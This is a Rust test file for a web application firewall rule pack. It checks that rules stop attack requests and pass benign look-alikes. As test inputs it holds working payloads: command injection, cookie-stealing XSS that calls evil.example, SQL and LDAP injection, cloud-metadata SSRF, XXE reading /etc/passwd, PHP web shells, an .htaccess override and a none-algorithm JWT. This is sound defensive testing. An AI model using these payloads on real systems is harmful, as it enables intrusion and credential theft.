//! Single rules on what they are for and on its nearest innocent look-alike: `bench/quality/waf/rules.txt`, which says how
//! its lines are read. Fields that carry programs, statements, commands or documents stand below, request by request.

use std::path::Path;

use anyhow::{Context, Result, bail, ensure};
use bartizan_waf::Gates;
use serde_json::json;

use crate::encode::percent;
use crate::engine::{self, Configuration};
use crate::sample::{HOST, Sample};

/// Lines of each sort that a rule has at least.
const LINES_MIN: usize = 2;

/// A line of the file.
struct Case {
    rule: u32,
    fires: bool,
    text: String,
}

fn cases() -> Result<Vec<Case>> {
    let file = crate::corpus_folder().join("rules.txt");
    let text = std::fs::read_to_string(&file).with_context(|| format!("cannot read `{}`", file.display()))?;
    let mut rule = 0;
    let mut cases = Vec::new();
    for line in text.lines().filter(|line| !line.is_empty() && !line.starts_with("# ")) {
        if let Some(id) = line.strip_prefix("## ") {
            rule = id.parse()?;
        } else if let Some(text) = line.strip_prefix("+ ") {
            cases.push(Case { rule, fires: true, text: text.to_owned() });
        } else if let Some(text) = line.strip_prefix("- ") {
            cases.push(Case { rule, fires: false, text: text.to_owned() });
        } else {
            bail!("`{line}` is no line of cases");
        }
    }
    Ok(cases)
}

/// `\n`, `\r`, `\\` and `\xhh` are bytes.
fn bytes(text: &str) -> Vec<u8> {
    let mut out = Vec::new();
    let mut rest = text;
    while let Some((before, behind)) = rest.split_once('\\') {
        out.extend_from_slice(before.as_bytes());
        let (byte, len) = match behind.as_bytes().first() {
            Some(b'n') => (b'\n', 1),
            Some(b'r') => (b'\r', 1),
            Some(b'\\') => (b'\\', 1),
            Some(b'x') => match behind.get(1..3).map(|digits| u8::from_str_radix(digits, 16)) {
                Some(Ok(byte)) => (byte, 3),
                _ => (b'\\', 0),
            },
            _ => (b'\\', 0),
        };
        out.push(byte);
        rest = &behind[len..];
    }
    out.extend_from_slice(rest.as_bytes());
    out
}

fn request(method: &str, target: &str) -> Sample {
    let sample = Sample { method: method.to_owned(), target: target.to_owned(), ..Sample::default() };
    sample.with("Host", HOST).with("Accept", "*/*")
}

fn sample(text: &str) -> Sample {
    let argument =
        |name: &str, value: &str| request("GET", &format!("/v1/items?{name}={}", percent(&bytes(value), b"")));
    let sample = match text.split_once('|') {
        Some(("k", pair)) => {
            let (name, value) = pair.split_once('=').unwrap_or((pair, ""));
            argument(name, value)
        }
        Some(("h", field)) => {
            let (name, value) = field.split_once(": ").unwrap_or((field, ""));
            request("GET", "/v1/items").with(name, value)
        }
        Some(("p", target)) => request("GET", target),
        Some(("j", body)) => request("POST", "/v1/items").with_body("application/json", body),
        Some(("f", content)) => {
            let head = "--x7Mq\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.dat\"\r\nContent-Type: \
                        application/octet-stream\r\n\r\n";
            let body = [head.as_bytes(), &bytes(content), b"\r\n--x7Mq--\r\n"].concat();
            request("POST", "/v1/items").with_body("multipart/form-data; boundary=x7Mq", body)
        }
        _ => argument("note", text),
    };
    if sample.headers.iter().any(|(name, _)| name == "User-Agent") {
        sample
    } else {
        sample.with("User-Agent", "curl/8.9")
    }
}

#[test]
fn a_rule_fires_on_its_own_kind_and_leaves_the_look_alike_alone() -> Result<()> {
    let plan = Configuration::OwnPack.plan(Path::new(""), Gates::All)?;
    let cases = cases()?;
    ensure!(!cases.is_empty(), "the file has no cases");
    for part in cases.chunk_by(|one, other| one.rule == other.rule) {
        for sort in [true, false] {
            let count = part.iter().filter(|case| case.fires == sort).count();
            assert!(count >= LINES_MIN, "rule {} has {count} lines of one sort", part[0].rule);
        }
    }
    let mut wrong = Vec::new();
    for case in &cases {
        let verdict = engine::judge(&plan, &sample(&case.text));
        let fires = verdict.rules.iter().any(|(rule, _)| *rule == case.rule);
        if fires != case.fires {
            wrong.push(format!("{} fires {fires}: {:?}: {:?}", case.rule, case.text, verdict.rules));
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
    Ok(())
}

/// Bodies of JSON that pass, then bodies that are stopped.
#[track_caller]
fn check_bodies(passed: &[serde_json::Value], stopped: &[serde_json::Value]) -> Result<()> {
    let plan = Configuration::OwnPack.plan(Path::new(""), Gates::All)?;
    for (bodies, is_stopped) in [(passed, false), (stopped, true)] {
        for body in bodies {
            let sample = request("POST", "/v1/items").with("User-Agent", "curl/8.9");
            let verdict = engine::judge(&plan, &sample.with_body("application/json", body.to_string()));
            assert_eq!(verdict.is_stopped, is_stopped, "{body}: {:?}", verdict.rules);
        }
    }
    Ok(())
}

#[test]
fn a_program_passes_beside_the_name_of_its_language() -> Result<()> {
    let program = "import os; os.system('clear')";
    check_bodies(
        &[
            json!({"language": "python", "code": program}),
            json!({"type": "code", "content": "<script>alert('hi')</script>"}),
            json!({"files": {"a.py": {"content": program}}}),
            json!({"path": "a.html", "content": "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="}),
        ],
        &[
            json!({"language": "en", "code": program}),
            json!({"language": "python", "code": "'; os.system('id') #"}),
            json!({"language": "python", "note": program}),
            json!({"code": "__import__('os').system('id')"}),
            json!({"language": "python", "code": "x", "name": "<script>alert(1)</script>"}),
        ],
    )
}

#[test]
fn a_statement_passes_in_a_field_for_statements_when_it_is_one_as_a_whole() -> Result<()> {
    check_bodies(
        &[
            json!({"sql": "DELETE FROM a WHERE b = 1 OR 1=1; VACUUM"}),
            json!({"attributes": [{"key": "db.statement", "value": {"stringValue": "SELECT 1 UNION SELECT pg_sleep(1)"}}]}),
        ],
        &[
            json!({"sql": "1 OR 1=1"}),
            json!({"note": "x'; DELETE FROM a WHERE 1=1; --"}),
            json!({"sql": "' UNION SELECT a, b FROM c--"}),
        ],
    )
}

#[test]
fn a_command_line_passes_in_a_field_for_commands_when_it_begins_with_a_program() -> Result<()> {
    check_bodies(
        &[
            json!({"command": "/usr/local/bin/backup.sh && find /backup -mtime +7 -delete"}),
            json!({"process": {"command_line": "cmd.exe /c dir C:\\"}}),
            json!({"scripts": {"build": "rm -rf dist; tsc && cp -r public dist"}}),
        ],
        &[
            json!({"command": "; cat /etc/passwd"}),
            json!({"process": {"command_line": "$(curl evil.example)"}}),
            json!({"host": "8.8.8.8; cat /etc/passwd"}),
        ],
    )
}

#[test]
fn a_handler_that_calls_the_page_passes_and_one_that_reaches_out_does_not() -> Result<()> {
    check_bodies(
        &[
            json!({"html": "<button onclick=\"toggleMenu()\">Menu</button>"}),
            json!({"html": "<p>Hi</p><script async src=\"https://platform.example.com/widgets.js\"></script>"}),
            json!({"html": "<a href=\"javascript:history.back()\">Back</a>"}),
            json!({"html": "<img src=\"/a.jpg\" onerror=\"this.src='/b.png'\">"}),
        ],
        &[
            json!({"html": "<button onclick=\"fetch('//evil.example')\">Menu</button>"}),
            json!({"html": "<p>Hi</p><script>fetch('//evil.example/'+document.cookie)</script>"}),
            json!({"html": "<a href=\"javascript:eval(name)\">Back</a>"}),
            json!({"html": "<img src=x onerror=top['al'+'ert'](1)>"}),
        ],
    )
}

#[test]
fn a_string_in_a_document_of_graphql_is_judged_as_the_value_that_it_is() -> Result<()> {
    let query = |text: &str| json!({"query": format!("mutation {{ save(url: {}) {{ id }} }}", json!(text))});
    check_bodies(
        &[query("https://www.example.com/a"), query("Ring the bell; call Anna")],
        &[query("http://169.254.169.254/latest/meta-data"), query("' or '1'='1"), query("; cat /etc/passwd")],
    )
}

#[test]
fn a_body_that_is_a_file_is_no_argument() -> Result<()> {
    let plan = Configuration::OwnPack.plan(Path::new(""), Gates::All)?;
    let sent = |media_type: &str, body: &str| {
        let sample = request("PUT", "/v1/files/a").with("User-Agent", "curl/8.9").with_body(media_type, body);
        engine::judge(&plan, &sample).is_stopped
    };
    assert!(!sent("application/sql", "SELECT 'a' OR 1=1;\n"));
    assert!(!sent("text/html", "<p onclick=\"go()\">x</p><script>var a = 1;</script>"));
    assert!(sent("application/octet-stream", "\u{4}\u{8}o:\u{15}Gem::Requirement\u{6}"));
    assert!(sent("text/xml", "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>"));
    Ok(())
}

#[test]
fn the_fields_of_a_change_of_password_are_random_where_the_path_says_so() -> Result<()> {
    let plan = Configuration::OwnPack.plan(Path::new(""), Gates::All)?;
    let sent = |path: &str, body: serde_json::Value| {
        let sample = request("PUT", path).with("User-Agent", "curl/8.9");
        engine::judge(&plan, &sample.with_body("application/json", body.to_string())).is_stopped
    };
    assert!(!sent("/v1/me/password", json!({"current": "1f6a2a8473'#", "new": "x|Y'--9"})));
    assert!(sent("/v1/me/profile", json!({"current": "1f6a2a8473'#"})));
    assert!(sent("/v1/me/profile;/password", json!({"current": "1f6a2a8473'#"})));
    assert!(sent("/v1/password/../profile", json!({"current": "1f6a2a8473'#"})));
    assert!(sent("/v1/me/password", json!({"current": "x' or 1=1 -- "})));
    assert!(sent("/v1/me/password", json!({"note": "admin'#"})));
    Ok(())
}

#[test]
fn a_filter_of_a_directory_passes_in_a_field_for_one_when_it_is_one_as_a_whole() -> Result<()> {
    check_bodies(
        &[
            json!({"userSearchFilter": "(&(objectClass=person)(!(uid={0})))"}),
            json!({"ldapUrl": "ldaps://dc01.example.com:636"}),
        ],
        &[
            json!({"userSearchFilter": "*)(uid=*))(|(uid=*"}),
            json!({"user": "(&(objectClass=person)(uid=*))"}),
            json!({"url": "ldap://192.0.2.4:389/x"}),
        ],
    )
}

#[test]
fn padding_hides_no_attack() -> Result<()> {
    let plan = Configuration::OwnPack.plan(Path::new(""), Gates::All)?;
    let long = "a".repeat(5_000);
    let token = crate::encode::base64_url(&format!("{{\"pad\":\"{long}\",\"alg\":\"none\"}}"));
    for value in [
        format!("http://{long}@169.254.169.254/latest/meta-data/"),
        format!("http://localhost:9200/{long}"),
        format!("1/*{long}*/or/*{long}*/1=1"),
        format!("{long};drop table users"),
        format!("<svg {long} onload=alert(1)>"),
        format!("{long}/../../../../etc/passwd"),
        format!("e.g. {token}.{token}.x").replace("e.g. ", ""),
    ] {
        let sample = request("GET", &format!("/v1/items?note={}", percent(value.as_bytes(), b"")));
        let verdict = engine::judge(&plan, &sample.with("User-Agent", "curl/8.9"));
        assert!(verdict.is_stopped, "{}…: {:?}", &value[..40], verdict.rules);
    }
    let sample = request("GET", "/v1/items").with("User-Agent", "curl/8.9");
    let sample = sample.with("Authorization", &format!("Bearer {token}.{token}.x"));
    assert!(engine::judge(&plan, &sample).is_stopped);
    Ok(())
}

#[test]
fn programs_are_handed_in_where_the_path_is_for_them() -> Result<()> {
    let plan = Configuration::OwnPack.plan(Path::new(""), Gates::All)?;
    let sent = |path: &str, filename: &str, content: &str| {
        let body = format!(
            "--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{filename}\"\r\nContent-Type: \
             text/plain\r\n\r\n{content}\r\n--b--\r\n"
        );
        let sample = request("POST", path).with("User-Agent", "curl/8.9");
        engine::judge(&plan, &sample.with_body("multipart/form-data; boundary=b", body)).is_stopped
    };
    assert!(!sent("/v4/projects/5/uploads/source", "list.aspx", "<asp:GridView runat=\"server\" />"));
    assert!(sent("/v4/uploads", "list.aspx", "<asp:GridView runat=\"server\" />"));
    assert!(sent("/v4/source/../uploads", "list.aspx", "<asp:GridView runat=\"server\" />"));
    assert!(sent("/v4/projects/5/uploads/source", "a.php", "<?php system($_GET['c']); ?>"));
    assert!(sent("/v4/projects/5/uploads/source", ".htaccess", "AddType application/x-httpd-php .jpg"));
    Ok(())
}

#[test]
fn a_program_that_takes_commands_is_not_put_where_it_is_run() -> Result<()> {
    let plan = Configuration::OwnPack.plan(Path::new(""), Gates::All)?;
    let sent = |path: &str, body: &str| {
        let sample = request("PUT", path).with("User-Agent", "curl/8.9").with_body("text/plain", body);
        engine::judge(&plan, &sample).rules.iter().any(|(rule, _)| *rule == 9_518_060)
    };
    assert!(sent("/uploads/s.php/", "<?php system($_GET['cmd']); ?>"));
    assert!(sent("/uploads/s.phar", "<?php eval(gzinflate(base64_decode('80jNyckHAA=='))); ?>"));
    assert!(!sent("/files/src/a.php", "<?php echo htmlspecialchars($title); ?>"));
    assert!(!sent("/files/notes.txt", "<?php system($_GET['cmd']); ?>"));
    Ok(())
}
